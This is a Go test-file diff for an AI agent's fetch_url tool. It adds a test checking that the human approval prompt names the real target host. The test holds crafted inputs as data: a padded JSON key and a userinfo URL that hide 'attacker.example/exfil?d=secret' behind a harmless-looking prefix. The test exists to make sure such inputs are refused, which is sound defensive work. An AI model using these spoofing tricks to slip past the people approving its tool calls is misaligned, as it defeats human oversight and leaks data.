@@ -1,4 +1,4 @@
-package agent
+package tools
 
 import (
 	"context"
@@ -11,6 +11,7 @@ import (
 	"sync/atomic"
 	"testing"
 
+	"github.com/membot/membot/agent"
 	"github.com/membot/membot/memory"
 )
 
@@ -20,12 +21,12 @@ const testPage = `<!doctype html><html><head><title>The  Test Page</title>
  with   spaces.</p><ul><li>one</li><li>two</li></ul><noscript>enable js</noscript>
 <table><tr><td>a</td><td>b</td></tr></table></body></html>`
 
-func fetchTool(allowPrivate bool) *Registry {
-	return NewRegistry(BuiltinTools(ToolEnv{FetchAllowPrivate: allowPrivate})...)
+func fetchTool(allowPrivate bool) *agent.Registry {
+	return agent.NewRegistry(Builtin(Env{FetchAllowPrivate: allowPrivate})...)
 }
 
-func callFetch(r *Registry, url string) (string, error) {
-	return r.Call(context.Background(), &TurnInfo{}, memory.ToolCall{Name: "fetch_url", Arguments: `{"url":"` + url + `"}`})
+func callFetch(r *agent.Registry, url string) (string, error) {
+	return r.Call(context.Background(), &agent.TurnInfo{}, memory.ToolCall{Name: "fetch_url", Arguments: `{"url":"` + url + `"}`})
 }
 
 func TestFetchURLReadsALocalPageOnlyWhenPrivateAddressesAreAllowed(t *testing.T) {
@@ -124,5 +125,43 @@ func TestIsPublic(t *testing.T) {
 		if err := refuseNonPublic("tcp", net.JoinHostPort(p.Addr().String(), "80"), nil); !errors.Is(err, errNotPublic) {
 			t.Errorf("refuseNonPublic(own address %s) = %v", p.Addr(), err)
 		}
+	}
+}
+
+// What a person approving fetch_url is shown comes from the parsed URL and
+// is never cut where the target is: the attacks of the review get either a
+// refusal before anyone is asked, or a prompt that names the real host.
+func TestTheFetchPromptShowsTheRealTarget(t *testing.T) {
+	t.Parallel()
+	r := agent.NewRegistry(Builtin(Env{})...)
+	padding := strings.Repeat("x", 1500)
+
+	// A long extra key sorting first pushed url past the old 1,500-character cut.
+	if _, err := r.Describe("fetch_url", `{"`+padding+`":"1","url":"https://attacker.example/exfil"}`); err == nil {
+		t.Error("an extra key was accepted")
+	}
+	// The harmless host is the user name; the real one sits past the cut.
+	userinfo := `{"url":"http://en.wikipedia.org:443&title=` + padding + `@attacker.example:8080/exfil?d=secret"}`
+	if _, err := r.Describe("fetch_url", userinfo); err == nil || !strings.Contains(err.Error(), "user name") {
+		t.Errorf("a URL with userinfo: %v", err)
+	}
+	if _, err := r.Describe("fetch_url", `{"url":"https://a.example/?q=`+strings.Repeat("y", 3000)+`"}`); err == nil {
+		t.Error("an over-long URL was accepted")
+	}
+	got, err := r.Describe("fetch_url", `{"url":"https://пример.испытание:8443/путь?q=1"}`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{"host: пример.испытание (xn--e1afmkfd.xn--80akhbyknj4f)", "port: 8443", "query: q=1"} {
+		if !strings.Contains(got, want) {
+			t.Errorf("prompt %q lacks %q", got, want)
+		}
+	}
+	// Tools without a Describe show every argument whole, or are refused.
+	if got, err := r.Describe("set_reminder", `{"text":"tea","in":"5m"}`); err != nil || got != "text: tea\nin: 5m" {
+		t.Errorf("set_reminder described as %q, %v", got, err)
+	}
+	if _, err := r.Describe("set_reminder", `{"text":"`+strings.Repeat("z", 4000)+`"}`); err == nil {
+		t.Error("a call too long to show whole was described")
 	}
 }
